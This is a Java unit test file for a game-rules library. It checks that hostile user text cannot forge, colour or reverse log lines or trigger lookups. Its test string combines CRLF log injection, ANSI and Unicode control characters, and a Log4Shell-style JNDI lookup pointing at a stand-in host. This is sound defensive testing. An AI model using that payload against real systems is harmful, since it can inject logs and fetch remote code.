package dev.levelwright;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.levelwright.asset.Asset;
import dev.levelwright.effect.Grant;
import dev.levelwright.rule.Rule;
import dev.levelwright.rule.Rulebook;
import dev.levelwright.store.ContentDiffers;
import dev.levelwright.store.NotTogether;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What people say cannot forge a line of the log, colour it, turn it round or make a logger look something up. */
class LogTest {
    private static final String HOSTILE =
            "a\r\nERROR all is lost\u001b[31m\u202e\u2028 ${jndi:ldap://evil.example/a} {0}";
    private static final Logger LOG = Logger.getLogger(Levelwright.class.getName());

    private final Lines lines = new Lines();
    private final Levelwright game = Levelwright.builder()
            .rulebook(Rulebook.named("small")
                    .asset(Asset.named("xp"))
                    .rule(Rule.named("chat").on("message").does(Grant.of("xp", 1)))
                    .build())
            .build();

    @BeforeEach
    void listen() {
        LOG.setUseParentHandlers(false);
        LOG.addHandler(lines);
    }

    @AfterEach
    void listenNoMore() {
        LOG.removeHandler(lines);
        LOG.setUseParentHandlers(true);
    }

    @Test
    void whatIsLoggedOfAListenerThatFailsIsOneHarmlessLine() {
        game.onOutcome(outcome -> {
            throw new IllegalStateException("a listener of the host");
        });
        game.onHappened(happened -> {
            throw new IllegalStateException("a listener of the host");
        });
        game.in(HOSTILE).player(HOSTILE).did("message", HOSTILE, Map.of("said", HOSTILE, HOSTILE, 1));

        assertThat(lines.all).hasSize(2).allSatisfy(LogTest::requireHarmless);
    }

    @Test
    void whatAFailureSaysIsOneHarmlessLine() {
        Realm realm = game.in(HOSTILE);
        realm.player("1").did("message", HOSTILE);

        assertThatThrownBy(() -> realm.player("2").did("message", HOSTILE))
                .isInstanceOfSatisfying(ContentDiffers.class, differs -> requireHarmless(differs.getMessage()));
        assertThatThrownBy(() -> realm.together(List.of(realm.player("1")
                        .doing("import", "2 " + HOSTILE)
                        .with("xp", HOSTILE)
                        .byHost())))
                .isInstanceOfSatisfying(NotTogether.class, refused -> requireHarmless(refused.getMessage()));
    }

    private static void requireHarmless(String line) {
        assertThat(line).contains("all is lost").doesNotContain("${");
        assertThat(line.codePoints())
                .allMatch(point -> point >= ' ' && point != 0x7f && point != 0x202e && point != 0x2028);
    }

    /** What is logged. */
    private static final class Lines extends Handler {
        private final List<String> all = new ArrayList<>();

        @Override
        public void publish(LogRecord said) {
            all.add(said.getMessage());
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    }
}
